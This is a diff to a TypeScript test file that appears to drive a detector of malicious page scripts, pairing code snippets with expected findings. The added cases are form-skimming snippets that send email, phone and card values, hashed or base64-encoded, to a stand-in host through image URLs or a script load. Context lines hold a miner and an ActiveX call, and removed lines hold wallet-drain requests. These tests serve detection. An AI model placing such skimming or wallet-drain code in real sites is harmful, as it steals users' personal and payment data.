@@ -87,6 +87,22 @@ const cases: Record<string, [string, string[]]> = {
     `fetch('https://news.example/',{method:'POST',body:document.getElementById('email').value}).then(function(r){})`,
     ['info personal-field-to-host'],
   ],
+  'a digest of an address, in the address of an image': [
+    `async function sha(s){return hex(await crypto.subtle.digest('SHA-256',new TextEncoder().encode(s)))}document.addEventListener('submit',async function(e){new Image().src='https://x.example/?em='+await sha(document.querySelector('#email').value)})`,
+    ['low personal-field-to-host'],
+  ],
+  'an address in base64, in the address of an image': [
+    `document.addEventListener('submit',function(e){new Image().src='https://x.example/?em='+btoa(document.querySelector('#email').value+document.querySelector('#phone').value)})`,
+    ['medium personal-field-to-host'],
+  ],
+  'a digest of a card': [
+    `async function sha(s){return hex(await crypto.subtle.digest('SHA-256',new TextEncoder().encode(s)))}document.addEventListener('submit',async function(e){new Image().src='https://x.example/?em='+await sha(${card})})`,
+    ['critical card-data-in-image-url', 'critical card-field-to-host'],
+  ],
+  'a look-up of addresses by a script that answers': [
+    `document.querySelector('#street').addEventListener('keyup',function(){var s=document.createElement('script');s.src='https://x.example/find?callback=cb&q='+this.value;document.head.appendChild(s)})`,
+    ['info personal-field-to-host'],
+  ],
   "a shop's own checkout": [`fetch('/pay',{method:'POST',body:${card}}).then(function(r){})`, []],
   'card data kept in the browser': [`localStorage.setItem('k',${card})`, ['medium card-data-stored']],
   'a borrowed name': [
@@ -136,18 +152,6 @@ const cases: Record<string, [string, string[]]> = {
   'a miner by its means': [
     `new Worker('w.js');var s=new WebSocket('wss://pool.example/');s.send('stratum+tcp');WebAssembly.instantiate(b)`,
     ['high miner-workload'],
-  ],
-  'a wallet asked to pay a fixed address': [
-    `ethereum.request({method:'eth_sendTransaction',params:[{to:'0x000000000000000000000000000000000000dEaD'}]})`,
-    ['medium wallet-drain'],
-  ],
-  'a wallet asked for all that it will ever hold': [
-    `ethereum.request({method:'eth_sendTransaction',params:[{to:'0x000000000000000000000000000000000000dEaD',data:'0x095ea7b3${'f'.repeat(64)}'}]})`,
-    ['high wallet-drain'],
-  ],
-  'no wallet drained by a change of chain': [
-    `var token='0x000000000000000000000000000000000000dEaD';ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})`,
-    [],
   ],
   'an exploit for an old browser': [`new ActiveXObject('WScript.Shell')`, ['high activex-exploit']],
   'components that are only listed': [`var l=['WScript.Shell','ADODB.Stream']`, []],
